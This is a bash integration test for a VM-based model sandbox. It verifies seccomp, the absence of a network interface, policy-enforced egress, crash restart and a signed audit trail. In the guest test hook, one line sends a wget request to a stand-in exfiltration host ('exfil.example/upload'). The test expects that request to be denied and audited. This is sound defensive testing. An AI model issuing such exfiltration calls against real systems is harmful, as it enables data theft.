#!/usr/bin/env bash
# ctest: lock=libvirt cost=150 (starts the system libvirtd by hand, boots a TCG guest)
# Integration test of the VM sandbox under TCG, through the real system: starts virtlogd and
# libvirtd by hand (own socket directory and pidfiles; stopped by PID), builds the test guest
# (Debian kernel fetched with apt-get download + busybox initramfs with custos-guest and the
# model-server fixture), and runs `custos up` with a model whose sandbox.type is vm: custos boots
# it with no network interface, refuses to route until QEMU is seen under seccomp, and reaches it
# only through the multiplexed virtio-serial channel. Checked:
#   - a chat completion answered from inside the VM: curl with an API key -> custos' ingress
#     listener (authentication, policy, audit) -> a stream over the channel -> custos-guest ->
#     the model server in the VM (its canned answer exists only in the guest image);
#   - egress from inside the VM: busybox wget with http_proxy=127.0.0.1:3128 -> custos-guest ->
#     channel -> custos' egress proxy (the VM's listener), which decides by policy (vm-isolated
#     models may GET the confidential host-data source; anything else is default deny, 403),
#     forwards the allowed call to the loopback data server and audits both as egress.request
#     events (model vm-model, decision, rules); `custos audit verify` passes on the trail;
#   - custos-guest's vsock side (--vsock-port), inside the guest over the kernel's vsock
#     loopback transport: the channel's host-side protocol code (a static fixture) opens 4
#     streams over AF_VSOCK to a second agent and gets the model server's answers;
#   - QEMU runs as an unprivileged user under seccomp (-sandbox on,obsolete=deny,...), the live
#     domain has no <interface>, the guest sees only lo;
#   - QEMU killed -> libvirt event -> custos restarts it with backoff (audited: sandbox.vm
#     events), re-checks seccomp, reconnects, and a second chat completion is answered; the
#     rebooted guest's egress reaches custos through the new channel's listener;
#   - the admin API (curl on its Unix socket) lists the VM: kind vm, running, QEMU's pid as in
#     libvirt's pidfile, seccomp "filter", the domain's UUID as virsh reports it, the channel,
#     the profile hash of the sandbox.vm audit events, taint confidential after the guest read
#     host-data; after the crash: restarts 1 and the new QEMU's pid.
# The channel: CUSTOS_VM_CHANNEL (virtio-serial | vsock | auto). Unset: `auto` where the host
# has no /dev/vhost-vsock (so `auto` is checked to pick virtio-serial), else virtio-serial.
# tests/integration/vm_vsock.sh runs this script with vsock where /dev/vhost-vsock exists.
# Exit 0 pass, 1 fail, 77 skipped (reason printed).
set -euo pipefail

SRC=${CUSTOS_SRC:?CUSTOS_SRC is not set}
BUILD=${CUSTOS_BUILD:?CUSTOS_BUILD is not set}
CUSTOS=${CUSTOS_BIN:?CUSTOS_BIN is not set}
AGENT=$BUILD/guest/custos-guest
GUEST_MODEL=$BUILD/guest/custos-guest-model-server
VSOCK_CHECK=$BUILD/guest/custos-guest-vsock-check
HOST_MODEL=${CUSTOS_FIXTURES:?}/model-server/model-server

skip() {
	echo "SKIPPED: $*"
	exit 77
}
[ "$(id -u)" -eq 0 ] || skip "needs root to run a system libvirtd by hand"
for t in libvirtd virtlogd virsh qemu-system-x86_64 busybox apt-get dpkg-deb cpio curl python3; do
	command -v "$t" >/dev/null 2>&1 || skip "$t is not installed (scripts/deps.sh)"
done
for f in "$AGENT" "$GUEST_MODEL" "$VSOCK_CHECK" "$HOST_MODEL" "$CUSTOS"; do
	[ -x "$f" ] || {
		echo "FAIL: not built: $f"
		exit 1
	}
done

VM_TEST=vm-tcg VM_AUDIT_WHAT="vm events" VM_AUDIT_RE='sandbox.vm|egress.request' VM_AUDIT_TAIL=10
. "$(dirname "$0")/vm_lib.bash"

# KVM cannot be trusted here (a paravirtual host reports it and then hangs); TCG always works.
DOMTYPE=qemu
CHANNEL=${CUSTOS_VM_CHANNEL:-}
if [ -z "$CHANNEL" ]; then
	if [ -c /dev/vhost-vsock ]; then CHANNEL=virtio-serial; else CHANNEL=auto; fi
fi
case $CHANNEL in
auto) [ -c /dev/vhost-vsock ] && EXPECT_CHANNEL=vsock || EXPECT_CHANNEL=virtio-serial ;;
vsock | virtio-serial) EXPECT_CHANNEL=$CHANNEL ;;
*)
	echo "FAIL: CUSTOS_VM_CHANNEL=$CHANNEL"
	exit 1
	;;
esac
if [ "$EXPECT_CHANNEL" = vsock ] && ! [ -c /dev/vhost-vsock ]; then
	skip "no /dev/vhost-vsock"
fi
echo "channel: $CHANNEL (expecting $EXPECT_CHANNEL)"

# ---- host side: the data source the VM may read ----------------------------------------------
"$HOST_MODEL" --listen 127.0.0.1:0 --port-file "$WORK/data.port" --mode canned \
	--canned "data from the host" >"$WORK/data.log" 2>&1 &
PIDS_TO_STOP+=($!)
wait_for 10 test -s "$WORK/data.port" || {
	fail "host data fixture did not start"
	exit 1
}
DPORT=$(cat "$WORK/data.port")

# ---- guest image ------------------------------------------------------------------------------
# Test hook run by the guest's init (at every boot): egress through custos-guest's loopback proxy.
cat >"$WORK/egress-hook.sh" <<EOF
# custos-guest's vsock side, inside the guest over the kernel's vsock loopback transport (this
# host has no vhost-vsock): a second agent listens on vsock port 1025 and the fixture drives
# the real protocol code over AF_VSOCK to it, 4 streams to the model server.
if insmod /lib/modules/extra/vsock_loopback.ko; then
	/bin/custos-guest --vsock-port 1025 --allow-port 8000 --proxy-port 0 2>/tmp/vg.err &
	/bin/custos-guest-vsock-check 1 1025 8000 /v1/models 4 || cat /tmp/vg.err
else
	echo "VSOCK-MUX-FAIL no vsock_loopback module"
fi
export http_proxy=http://127.0.0.1:3128
# The allowed call is tried until it goes through (the path to custos' egress listener may not
# be up yet when this runs at boot): the host side bounds the wait and reports.
until wget -q -O /tmp/eg http://127.0.0.1:$DPORT/v1/models 2>/dev/null; do
	sleep 0.2
done
echo "EGRESS-OK \$(cat /tmp/eg)"
if wget -q -O /tmp/eg2 http://exfil.example/upload 2>/tmp/eg2.err; then
	echo "EGRESS-UNEXPECTED \$(cat /tmp/eg2)"
else
	echo "EGRESS-DENIED \$(cat /tmp/eg2.err)"
fi
# What a model server does while it answers: calls out during a chat completion. These are
# attributed to the ingress request in flight (principal and request id in the egress event).
# Paced, with no end: they go on until the VM stops, so the host's chats below find them
# however long the steps before took ("EGRESS-CALLS" says they have begun).
echo "EGRESS-CALLS"
( while :; do
	wget -q -O /dev/null http://127.0.0.1:$DPORT/during-chat 2>/dev/null
	sleep 0.25
done ) &
EOF
IMG=$BUILD/vm-image
if ! CUSTOS_VM_GUEST_HOOK="$WORK/egress-hook.sh" CUSTOS_VM_GUEST_EXTRA="$VSOCK_CHECK" bash "$SRC/scripts/vm-guest-image.sh" "$IMG" \
	"$AGENT" "$GUEST_MODEL" --mode canned --canned "Hello from inside the VM." \
	--tokens 8 --delay-ms 250 \
	>"$WORK/image.log" 2>&1; then
	cat "$WORK/image.log"
	if grep -q "apt-get download\|package lists" "$WORK/image.log"; then
		skip "the guest kernel could not be fetched from the Debian archive"
	fi
	echo "FAIL: building the guest image"
	exit 1
fi
chmod 755 "$BUILD" "$IMG" 2>/dev/null || true
chmod 644 "$IMG/vmlinuz" "$IMG/initrd.img"

# ---- custos.yaml, policy, audit key ------------------------------------------------------------
# Ports from ports.bash, counted in a directory of their own: vm_lib.bash's cleanup removes
# $WORK, and they are given back only after it has stopped custos.
. "$SRC/tests/integration/ports.bash"
PORTS_DIR=$(mktemp -d /tmp/custos-vm-tcg-ports.XXXXXX)
trap 'cleanup; port_release "$PORTS_DIR"; rm -rf "$PORTS_DIR"' EXIT
port() { port_reserve "$PORTS_DIR"; }
P_IN=$(port)
P_EG=$(port)
KEY=test-key-vm-user
KEYSHA=$(printf %s "$KEY" | sha256sum | cut -d' ' -f1)
"$CUSTOS" audit keygen "$WORK/keys" >/dev/null
mkdir -p "$WORK/chan"
chown libvirt-qemu: "$WORK/chan" 2>/dev/null || chmod 1777 "$WORK/chan"
cat >"$WORK/custos.yaml" <<EOF
version: 1
log: { level: info, format: text }
listeners:
  - { id: local, address: "127.0.0.1:$P_IN" }
auth:
  api_keys:
    - { id: alice, sha256: "$KEYSHA" }
models:
  - id: vm-model
    sandbox:
      type: vm
      profile: tcg-guest
      port: 8000
      health: { start_timeout: 120s }
      restart: { initial: 1s, max: 5s }
sandbox_profiles:
  tcg-guest:
    vm:
      type: qemu
      libvirt_uri: "$URI"
      vcpus: 1
      memory: 256MiB
      kernel: $IMG/vmlinuz
      initrd: $IMG/initrd.img
      cmdline: "console=ttyS0 quiet panic=-1"
      channel: $CHANNEL
      channel_socket: $WORK/chan/mux.sock
      console_log: $WORK/console.log
data_sources:
  - { id: host-data, url: "http://127.0.0.1:$DPORT/", classification: confidential, allow_private_addresses: true }
egress:
  port: $P_EG
audit: { dir: "$WORK/audit", signing_key: "$WORK/keys/audit.key" }
admin: { socket: "$WORK/admin.sock" }
policy: { file: "$WORK/policy.yaml" }
EOF
cat >"$WORK/policy.yaml" <<EOF
version: 1
mode: enforce
principals:
  alice: { match: { api_key_sha256: "$KEYSHA" } }
models:
  vm-model: { isolation: vm }
data:
  host-data: { url: "http://127.0.0.1:$DPORT/", classification: confidential }
rules:
  - id: chat-vm-model
    effect: allow
    when: { direction: ingress, principal: alice, model: vm-model }
  - id: vm-models-read-host-data
    effect: allow
    when: { direction: egress, data: host-data, method: GET, model.isolation: { at_least: vm } }
  - id: confidential-needs-vm
    effect: deny
    when: { direction: egress, data.classification: { above: internal }, model.isolation: { below: vm } }
EOF
chmod 600 "$WORK/custos.yaml" "$WORK/policy.yaml"
"$CUSTOS" config check "$WORK/custos.yaml" >"$WORK/check.log" 2>&1 || {
	cat "$WORK/check.log"
	fail "test config does not check"
	exit 1
}

# ---- custos up: boots the VM, checks seccomp, opens the channel -------------------------------
NAME=custos-vm-model
"$CUSTOS" up -c "$WORK/custos.yaml" >"$WORK/custos.log" 2>&1 &
CUSTOS_PID=$!
# The first start on a fresh machine includes libvirt probing QEMU's capabilities (~1 min).
up_ready() { grep -q "up: listener 1 on port $P_IN" "$WORK/custos.log"; }
up_ready_or_exited() { up_ready || ! kill -0 "$CUSTOS_PID" 2>/dev/null; }
wait_for 180 up_ready_or_exited || true
if ! up_ready; then
	fail "custos up did not become ready"
	exit 1
fi
grep -q "vm $NAME: QEMU pid [0-9]* runs under a seccomp filter" "$WORK/custos.log" ||
	fail "custos routed to the VM without logging its seccomp check"
grep -q "VM $NAME started (channel $EXPECT_CHANNEL)" "$WORK/custos.log" ||
	fail "the VM was not started with channel $EXPECT_CHANNEL"
if [ "$CHANNEL" = auto ]; then
	grep -q "model vm-model: channel auto -> $EXPECT_CHANNEL" "$WORK/custos.log" ||
		fail "channel: auto did not pick $EXPECT_CHANNEL"
fi
echo "ok - custos up: VM started, QEMU seccomp checked, channel up, ingress listening"
wait_for 60 grep -q CUSTOS-GUEST-READY "$WORK/console.log" || fail "guest did not boot"
grep -qE "CUSTOS-GUEST-READY interfaces: lo[[:space:]]*$" "$WORK/console.log" ||
	fail "the guest has a network interface besides lo: $(grep READY "$WORK/console.log")"

# ---- isolation as configured -----------------------------------------------------------------
QPID=$(cat /run/libvirt/qemu/"$NAME".pid)
tr '\0' ' ' </proc/"$QPID"/cmdline >"$WORK/qemu.cmdline"
grep -q -- "-sandbox on,obsolete=deny,elevateprivileges=deny,spawn=deny,resourcecontrol=deny" \
	"$WORK/qemu.cmdline" || fail "QEMU runs without -sandbox on,...: $(cat "$WORK/qemu.cmdline")"
grep -qE -- "-netdev|-nic |virtio-net|e1000" "$WORK/qemu.cmdline" && fail "QEMU has a NIC"
grep -q "^Seccomp:[[:space:]]2" /proc/"$QPID"/status || fail "QEMU has no seccomp filter"
quid=$(awk '/^Uid:/ {print $2}' /proc/"$QPID"/status)
[ "$quid" != 0 ] || fail "QEMU runs as root"
virsh -c "$URI" dumpxml "$NAME" >"$WORK/live.xml"
grep -q "<interface" "$WORK/live.xml" && fail "the live domain has an <interface>"
CID=""
if [ "$EXPECT_CHANNEL" = vsock ]; then
	CID=$(sed -n "s/.*vm $NAME: vsock guest CID \([0-9]*\).*/\1/p" "$WORK/custos.log" | head -n 1)
	[ -n "$CID" ] || fail "no vsock guest CID logged"
	grep -q "<cid auto='no' address='$CID'/>" "$WORK/live.xml" ||
		fail "live domain XML lacks <cid auto='no' address='$CID'/>"
	grep -q "<channel type='unix'>" "$WORK/live.xml" && fail "vsock domain has a virtio-serial channel"
	echo "ok - vsock: guest CID $CID in the live domain XML, no virtio-serial channel"
else
	grep -q "<channel type='unix'>" "$WORK/live.xml" || fail "no virtio-serial channel in the live XML"
	grep -q "<vsock" "$WORK/live.xml" && fail "virtio-serial domain has a vsock device"
fi
echo "ok - QEMU pid $QPID: uid $quid, Seccomp 2, -sandbox on, no NIC, guest has lo only"
wait_for 60 grep -q "VSOCK-MUX-" "$WORK/console.log" || fail "the in-guest vsock check did not run"
if grep -q "VSOCK-MUX-OK n=4 HTTP/1.[01] 200" "$WORK/console.log"; then
	echo "ok - custos-guest's vsock side: 4 streams over AF_VSOCK (guest loopback transport) answered"
else
	fail "in-guest vsock check: $(grep -A3 VSOCK-MUX "$WORK/console.log")"
fi

# ---- ingress: a chat completion through custos, answered inside the VM -----------------------
chat() {
	curl --silent --show-error --max-time 30 "http://127.0.0.1:$P_IN/v1/chat/completions" \
		-H "Authorization: Bearer $KEY" -H 'content-type: application/json' \
		-d '{"model":"vm-model","messages":[{"role":"user","content":"hello VM"}]}'
}
reply=$(chat) || fail "chat completion through custos failed"
grep -q '"content":"Hello from inside the VM."' <<<"$reply" ||
	fail "unexpected reply: $reply"
echo "ok - chat completion through custos' ingress, answered from inside the VM"
code=$(curl --silent --output /dev/null --write-out '%{http_code}' --max-time 30 \
	"http://127.0.0.1:$P_IN/v1/chat/completions" -H 'content-type: application/json' \
	-d '{"model":"vm-model","messages":[{"role":"user","content":"no key"}]}')
[ "$code" = 401 ] || fail "a request without an API key got $code, not 401"
# Many at once over the one virtio-serial port.
for i in $(seq 16); do chat >"$WORK/par.$i" & done
wait_ok=0
for i in $(seq 16); do
	wait_for 60 grep -q 'Hello from inside the VM.' "$WORK/par.$i" && wait_ok=$((wait_ok + 1))
done
[ "$wait_ok" -eq 16 ] || fail "only $wait_ok of 16 concurrent completions answered"
echo "ok - 16 concurrent completions through custos over one channel"

# ---- egress: from the VM, through custos' egress proxy ---------------------------------------
wait_for 120 grep -q "EGRESS-OK" "$WORK/console.log" ||
	fail "the guest's allowed egress call did not go through in 120 s"
wait_for 60 grep -q "EGRESS-DENIED\|EGRESS-UNEXPECTED" "$WORK/console.log" ||
	fail "the guest's egress calls did not finish"
grep -q 'EGRESS-OK .*fixture-model' "$WORK/console.log" ||
	fail "allowed egress call from the VM did not get the data source's answer"
grep -q 'EGRESS-DENIED.*403' "$WORK/console.log" ||
	fail "denied egress call did not get 403: $(grep EGRESS- "$WORK/console.log")"
echo "ok - egress from the VM through custos' egress proxy: allowed call answered, other denied (403)"
# The VM's egress listener is an abstract AF_UNIX socket, which any host process in custos'
# network namespace can reach: only the supervisor's channel thread is served (SO_PEERCRED),
# a host process gets 503, audited.
PX=$(sed -n 's/.*supervisor pid [0-9]*, proxy pid \([0-9]*\).*/\1/p' "$WORK/custos.log" | head -1)
ABS=$(ss -xlpn 2>/dev/null | grep "pid=$PX," | awk '{print $5}' | grep '^@' | sed 's/^@//')
[ -n "$ABS" ] || fail "no abstract listener of the proxy (pid $PX) in ss -xlpn"
host_try() {
	python3 - "$1" <<'PY'
import socket, sys
s = socket.socket(socket.AF_UNIX)
s.settimeout(20)
s.connect("\0" + sys.argv[1])
# nothing sent: the refusal comes at accept, and a request unread at its close would turn the
# close into a reset that can take the answer with it
d = b""
while True:
    x = s.recv(4096)
    if not x:
        break
    d += x
print(d.split(b"\r\n")[0].decode(), "|", b"not the VM's channel" in d)
PY
}
for a in $ABS; do
	out=$(host_try "$a")
	[ "$out" = "HTTP/1.1 503 Service Unavailable | True" ] ||
		fail "a host process on the VM's egress listener @$a: $out"
done
host_refused() { cat "$WORK"/audit/*.jsonl 2>/dev/null | grep -c "not the VM's channel"; }
refusal_audited() { [ "$(host_refused)" -ge 1 ]; }
wait_for 30 refusal_audited || fail "the host process's refusal was not audited"
echo "ok - a host process on the VM's egress listener is refused (503, audited)"
# An egress call made while one chat completion is in flight is attributed to it: one chat at a
# time (each lasts 8 tokens of 250 ms) while the guest calls out every 0.25 s, until the trail
# has such an event (checked in full with the rest of the trail below).
wait_for 60 grep -q "EGRESS-CALLS" "$WORK/console.log" || fail "the guest's calls during chats did not begin"
attributed() {
	chat >/dev/null
	# (grep -c, not -q, at the end of the pipe: under pipefail -q's early exit can SIGPIPE the writer)
	[ "$(cat "$WORK"/audit/*.jsonl 2>/dev/null | grep '"path":"/during-chat"' |
		grep -c '"attribution":"sole-in-flight","ingress_request_id":"[^"]*","principal":"alice"')" -gt 0 ]
}
wait_for 120 attributed || fail "no egress call from the VM attributed to an in-flight chat after 120 s of chats"

# ---- admin API: the VM in GET /v1/sandboxes -----------------------------------------------------
sandboxes() { curl --silent --show-error --max-time 10 --unix-socket "$WORK/admin.sock" http://admin/v1/sandboxes; }
# check_vm JSON PID RESTARTS: the VM entry, field by field (python3's json, no jq needed)
check_vm() {
	python3 - "$1" "$2" "$3" "$(virsh -c "$URI" domuuid "$NAME" 2>/dev/null)" "$EXPECT_CHANNEL" "${CID:-}" <<'PY'
import json, sys
doc, pid, restarts, uuid, chan, cid = sys.argv[1:7]
vms = [s for s in json.loads(doc)["sandboxes"] if s.get("kind") == "vm"]
assert len(vms) == 1, "want one VM entry, got %r" % vms
v = vms[0]
want = {"id": "vm-model", "state": "running", "pid": int(pid), "restarts": int(restarts),
        "taint": "confidential"}
for k, x in want.items():
    assert v.get(k) == x, "%s: %r, want %r" % (k, v.get(k), x)
assert v["started"] and v["started"].endswith("Z"), "started: %r" % v["started"]
assert len(v["profile_hash"]) == 64, "profile_hash: %r" % v["profile_hash"]
m = v["vm"]
wantvm = {"domain": "custos-vm-model", "uuid": uuid.strip(), "channel": chan,
          "qemu_pid": int(pid), "seccomp": "filter", "routable": True,
          "vsock_cid": int(cid) if cid else None}
for k, x in wantvm.items():
    assert m.get(k) == x, "vm.%s: %r, want %r" % (k, m.get(k), x)
print(v["profile_hash"])
PY
}
SBX=$(sandboxes) || fail "GET /v1/sandboxes on the admin socket failed"
if VMHASH=$(check_vm "$SBX" "$QPID" 0 2>"$WORK/admin.err"); then
	echo "ok - admin API lists the VM: running, QEMU pid $QPID, seccomp filter, uuid, channel $EXPECT_CHANNEL, taint confidential"
else
	fail "admin API VM entry: $(cat "$WORK/admin.err") in $SBX"
fi

# ---- crash -> restart with backoff, audited ---------------------------------------------------
kill -KILL "$QPID"
wait_for 120 grep -q "vm $NAME: channel up again, seccomp checked" "$WORK/custos.log" ||
	fail "channel not re-established after the crash"
grep -q "vm $NAME (model vm-model): crashed" "$WORK/custos.log" || fail "crash not reported"
NEWPID=$(cat /run/libvirt/qemu/"$NAME".pid 2>/dev/null || echo none)
[ "$NEWPID" != "$QPID" ] || fail "QEMU pid did not change"
answered() { chat 2>/dev/null | grep -q 'Hello from inside the VM.'; }
wait_for 120 answered || fail "no completion after the restart (120 s)"
# The new QEMU started a new console log: the rebooted guest's hook ran again, through the
# new channel's egress listener (its allowed call is counted in the audit trail below).
wait_for 120 grep -q "EGRESS-DENIED" "$WORK/console.log" ||
	fail "the restarted guest's egress calls did not finish"
grep -q 'EGRESS-OK .*fixture-model' "$WORK/console.log" ||
	fail "the restarted guest's allowed egress call did not get the data source's answer"
echo "ok - QEMU killed: crash audited, restarted with backoff, seccomp re-checked, answering again"
SBX=$(sandboxes) || fail "GET /v1/sandboxes after the restart failed"
if check_vm "$SBX" "$NEWPID" 1 >/dev/null 2>"$WORK/admin.err"; then
	echo "ok - admin API after the restart: restarts 1, the new QEMU pid $NEWPID, seccomp filter"
else
	fail "admin API VM entry after the restart: $(cat "$WORK/admin.err") in $SBX"
fi

# ---- clean stop, then the audit trail ----------------------------------------------------------
stop_pid "$CUSTOS_PID"
rc=0
wait "$CUSTOS_PID" 2>/dev/null || rc=$?
CUSTOS_PID=""
[ "$rc" -eq 0 ] || fail "custos up exited with $rc after SIGTERM"
grep -q "Sanitizer" "$WORK/custos.log" && fail "sanitizer report from custos up"
if virsh -c "$URI" list --name | grep -qx "$NAME"; then
	fail "domain still running after custos up stopped"
fi
cat "$WORK"/audit/*.jsonl >"$WORK/trail.jsonl"
ev() { grep "$1" "$WORK/trail.jsonl" | grep -c "$2" || true; }
[ "$(grep '"egress.request"' "$WORK/trail.jsonl" | grep '"model":"vm-model"' |
	grep '"host":"127.0.0.1"' | grep '"data_source":"host-data"' |
	grep '"decision":"allow"' | grep -c '"rules":"vm-models-read-host-data"')" -ge 2 ] ||
	fail "no allowed egress.request events (model vm-model, host-data, by rule) in the audit trail (one per boot)"
[ "$(grep '"egress.request"' "$WORK/trail.jsonl" | grep '"model":"vm-model"' |
	grep '"host":"exfil.example"' | grep -c '"decision":"deny"')" -ge 1 ] ||
	fail "no denied egress.request event in the audit trail"
[ "$(ev '"direction":"ingress"' '"principal":"alice"')" -ge 17 ] ||
	fail "ingress requests of alice missing from the audit trail"
# An egress call made while one chat completion was in flight names that request.
attr=$(grep '"egress.request"' "$WORK/trail.jsonl" | grep '"path":"/during-chat"' |
	grep -o '"attribution":"sole-in-flight","ingress_request_id":"[^"]*","principal":"alice"' |
	sed -n '1s/.*"ingress_request_id":"\([^"]*\)".*/\1/p')
if [ -z "$attr" ]; then
	fail "no egress call from the VM attributed to an in-flight ingress request"
elif ! grep "\"request_id\":\"$attr\"" "$WORK/trail.jsonl" | grep '"direction":"ingress"' >/dev/null; then
	# (no grep -q after a pipe here: under pipefail its early exit can SIGPIPE the writer)
	fail "egress attributed to $attr, which is no ingress request in the trail"
	echo "---- trail lines naming $attr, and the ingress events of alice (diagnosis)"
	grep "$attr" "$WORK/trail.jsonl" | cut -c1-400
	grep '"direction":"ingress"' "$WORK/trail.jsonl" | grep -o '"type":"[^"]*","request_id":"[^"]*"' | sort | uniq -c | sed -n 1,40p
fi
for a in started crashed restarting restarted stopped; do
	[ "$(ev '"sandbox.vm"' "\"action\":\"$a\"")" -ge 1 ] || fail "no sandbox.vm $a event in the audit trail"
done
[ -z "${VMHASH:-}" ] || [ "$(ev '"sandbox.vm"' "\"profile_sha256\":\"$VMHASH\",\"channel\":\"$EXPECT_CHANNEL\"")" -ge 5 ] ||
	fail "sandbox.vm events do not carry the admin API's profile hash and channel $EXPECT_CHANNEL"
out=$("$CUSTOS" audit verify --pubkey "$WORK/keys/audit.pub" "$WORK/audit" 2>&1) ||
	fail "custos audit verify: $out"
echo "ok - audit trail: egress allow/deny by policy (one attributed to ingress request $attr), ingress, VM lifecycle; verified: $out"

if [ "$FAILED" -ne 0 ]; then
	exit 1
fi
echo "PASS: vm_tcg"
